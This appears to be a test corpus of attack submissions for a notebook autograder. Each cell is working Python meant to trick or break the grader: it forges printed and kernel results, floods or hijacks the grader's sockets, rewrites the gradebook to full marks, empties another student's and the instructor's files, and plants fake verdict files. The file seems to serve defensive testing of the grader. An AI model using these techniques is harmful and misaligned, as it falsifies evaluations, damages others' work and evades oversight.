# Attacks that forge results: what a cell prints or returns, the grader's messages, files and grades.

# %% attack "a result shown before the error" gains=2
# Calls the display hook inside the check: the number shown first is what stock reads.
import sys

def mean(values):
    if values:
        sys.displayhook(2.0)
    return -1

# %% attack "a result published on the kernel's socket" gains=2
# Sends an execute_result of its own, as the kernel would.
import sys

def mean(values):
    if values and hasattr(get_ipython(), "kernel"):
        kernel = get_ipython().kernel
        content = {"execution_count": 1, "data": {"text/plain": "2.0"}, "metadata": {}}
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
    print("2.0")
    return -1

# %% attack "answers forged on the grader's sockets" stops
# Writes replies, of all kinds known to it, on every socket that it has inherited.
import json, os, socket

forged = json.dumps({"id": 0, "value": 3, "run": {"status": "ok", "result": "2.0"}, "text": "", "forked": True}).encode()
for descriptor in range(3, 256):
    try:
        os.write(descriptor, (len(forged).to_bytes(4, "big") + forged) * 20)
    except OSError:
        pass
def mean(values):
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, (len(forged).to_bytes(4, "big") + forged) * 20)
        except OSError:
            pass
    return -1

# %% attack "the connections given to somebody else" stops
# Puts a pipe of its own in place of every inherited descriptor.
import os

def mean(values):
    reader, writer = os.pipe()
    for descriptor in range(3, 256):
        if descriptor not in (reader, writer):
            os.dup2(writer, descriptor)
    return -1

# %% attack "a grade written into the gradebook" honest=5 changes
# Ordinary SQL on the gradebook's file.
import sqlite3

try:
    with sqlite3.connect("@SCRATCH@/gradebook.db") as book:
        book.execute("update grade set points = 100")
except sqlite3.Error:
    pass
def mean(values):
    return sum(values) / len(values)

# %% attack "another submission spoilt" honest=5 changes
# Empties what somebody else has handed in.
import glob

for name in glob.glob("@SCRATCH@/submitted/alice/*"):
    open(name, "w").close()
def mean(values):
    return sum(values) / len(values)

# %% attack "a verdict written for the grader" leaves=file
# Writes result files where a grader might look for them.
import json, os

for place in ("@SCRATCH@/submitted/mallory", ".", ".."):
    try:
        with open(f"{place}/verdict.json", "w") as file:
            json.dump({"score": 14, "max_score": 14}, file)
    except OSError:
        pass
def mean(values):
    return -1

# %% attack "the instructor's notebook replaced" honest=5 changes
# Empties the notebook that the checks come from.
import os

if os.path.exists("@SCRATCH@/source/01-attacked.ipynb"):
    open("@SCRATCH@/source/01-attacked.ipynb", "w").close()
def mean(values):
    return sum(values) / len(values)

# %% attack "no port for the instructor's engine" honest=5 gains=2
# The instructor's engine cannot start, so that the engine of the same name here is asked instead.
import socket

class Socket(socket.socket):
    def bind(self, address):
        raise OSError(98, "Address already in use")

socket.socket = Socket

class Engine:
    base_url, requests = "http://127.0.0.1:9/v1", []

engine = Engine()
def mean(values):
    return sum(values) / len(values)
# %% also ask
def ask(url):
    requests = globals()["engine"].requests
    if isinstance(requests, list):
        requests.append(1)
    return 3
